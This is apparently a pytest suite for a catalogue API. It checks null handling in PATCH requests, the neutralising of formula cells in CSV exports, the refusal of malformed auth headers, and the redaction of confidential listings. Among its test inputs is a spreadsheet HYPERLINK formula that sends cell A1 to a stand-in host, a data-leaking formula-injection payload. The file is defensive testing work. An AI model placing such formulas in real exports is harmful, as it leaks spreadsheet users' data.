"""Edge paths that must not let data through: null in PATCH, formula cells in exports, malformed credentials."""

from __future__ import annotations

import csv
import io

import pytest

from matcher.catalogue.export import safe_cell

from .conftest import auth


def ref_id(service, side, ref):
    return service.catalogue.find_by_ref(side, ref)["id"]


@pytest.mark.parametrize("field", ["confidentiality", "status", "industry", "description", "keywords", "title"])
def test_null_cannot_reset_a_field_that_may_not_be_empty(api, field):
    client, service, keys = api
    nid = ref_id(service, "needs", "T-N04")  # the confidential need of the auto firm
    before = service.catalogue.get_listing("needs", nid)
    r = client.patch(f"/needs/{nid}", json={field: None}, headers=auth(keys, "auto_firm"))
    assert r.status_code == 422, r.text
    assert "null is not allowed" in r.json()["error"]["details"][0]["reason"]
    assert service.catalogue.get_listing("needs", nid) == before
    assert client.get(f"/needs/{nid}").json()["redacted"] is True  # still confidential to anonymous callers


def test_null_clears_a_nullable_field(api):
    client, service, keys = api
    nid = ref_id(service, "needs", "T-N01")
    r = client.patch(f"/needs/{nid}", json={"deadline": None}, headers=auth(keys, "firm"))
    assert r.status_code == 200 and r.json()["deadline"] is None


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x.example/?leak=\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)",
                                   "\t=1", "\r=1"])
def test_formula_cells_are_neutralised(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("齿轮") == "齿轮" and safe_cell(-5) == -5 and safe_cell(None) is None


def test_the_csv_export_neutralises_a_formula_title(api):
    client, _, keys = api
    made = client.post("/results", json={"title": "=HYPERLINK(\"http://x.example\",\"点我\")", "abstract": "公式测试"},
                       headers=auth(keys, "institution"))
    assert made.status_code == 201
    body = client.get("/exports/results", params={"format": "csv"}, headers=auth(keys, "broker")).text
    titles = [row["title"] for row in csv.DictReader(io.StringIO(body))]
    assert "'=HYPERLINK(\"http://x.example\",\"点我\")" in titles
    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)


@pytest.mark.parametrize("header", ["Bearer ", "Bearer", "Basic dXNlcjpwYXNz", "Token tm_abc", "tm_abc", ""])
def test_a_malformed_authorization_header_is_refused(api, header):
    client, _, _ = api
    r = client.get("/needs", headers={"Authorization": header})
    assert r.status_code == 401, (header, r.text)
    assert r.json()["error"]["code"] == "unauthorized" and r.headers["WWW-Authenticate"] == "Bearer"
    assert client.get("/needs").status_code == 200  # no header at all: anonymous


def _secret(service):
    need = service.catalogue.find_by_ref("needs", "T-N04")
    assert need["confidentiality"] == "brokers"
    return need


@pytest.mark.parametrize("who", [None, "other_firm", "institution"])
def test_an_outsider_cannot_probe_hidden_text_with_q(api, who):
    client, service, keys = api
    need = _secret(service)
    fragments = [need["description"][i:i + 8] for i in range(0, 40, 8)] + need["keywords"]
    for fragment in fragments:
        if fragment in need["title"]:
            continue
        found = client.get("/needs", params={"q": fragment}, headers=auth(keys, who)).json()
        assert need["id"] not in [n["id"] for n in found["items"]], fragment
    # the title is public: searching it finds the (redacted) need
    hit = client.get("/needs", params={"q": need["title"][:6]}, headers=auth(keys, who)).json()["items"]
    assert next(n for n in hit if n["id"] == need["id"])["redacted"] is True


@pytest.mark.parametrize("who", ["broker", "auto_firm"])
def test_insiders_filter_by_the_hidden_text(api, who):
    client, service, keys = api
    need = _secret(service)
    found = client.get("/needs", params={"q": need["description"][8:16]}, headers=auth(keys, who)).json()
    assert need["id"] in [n["id"] for n in found["items"]]


def test_sorting_by_a_hidden_budget_orders_it_as_empty_for_outsiders(api):
    client, service, keys = api
    need = _secret(service)
    assert need["budget"] is not None
    for sort in ("budget", "-budget"):
        page = client.get("/needs", params={"sort": sort, "limit": 200}).json()["items"]
        shown = [n for n in page if n["id"] != need["id"]]
        position = [n["id"] for n in page].index(need["id"])
        # SQLite orders empty values first ascending and last descending: so does a hidden budget
        empties = [n for n in shown if n["budget"] is None]
        if sort == "budget":
            assert position <= len(empties)
        else:
            assert position >= len(shown) - len(empties)
    broker = client.get("/needs", params={"sort": "-budget", "limit": 200}, headers=auth(keys, "broker")).json()
    ranked = [n["budget"] for n in broker["items"] if n["budget"] is not None]
    assert ranked == sorted(ranked, reverse=True) and need["budget"] in ranked


def test_a_confidential_needs_organisation_is_withheld_from_outsiders(api):
    client, service, keys = api
    need = _secret(service)
    assert client.get(f"/needs/{need['id']}").json()["org_id"] is None
    assert client.get(f"/needs/{need['id']}", headers=auth(keys, "auto_firm")).json()["org_id"] == need["org_id"]
    assert client.get(f"/needs/{need['id']}", headers=auth(keys, "broker")).json()["org_id"] == need["org_id"]
